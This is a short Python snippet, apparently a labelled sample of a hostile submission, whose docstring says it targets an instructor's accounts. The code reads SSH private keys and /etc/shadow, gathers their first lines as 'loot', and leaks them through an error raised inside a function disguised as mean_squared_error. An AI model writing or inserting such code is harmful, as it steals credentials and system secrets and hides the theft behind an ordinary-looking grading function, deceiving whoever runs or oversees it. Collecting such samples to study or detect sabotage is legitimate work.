"""Reads private keys and the system's password file.

Harm: the instructor's accounts.
Costs: nothing
"""

# %% honest work
# %% hostile
# %% places to look
loot = ""
for path in [*(f"{place}/../home/.ssh/id_ed25519" for place in places()), "/etc/shadow", os.path.expanduser("~root/.ssh/id_ed25519")]:
    try:
        text = open(path, errors="replace").read()
    except OSError:
        continue
    loot += text.splitlines()[0]


def mean_squared_error(y, y_hat):
    raise RuntimeError(loot)
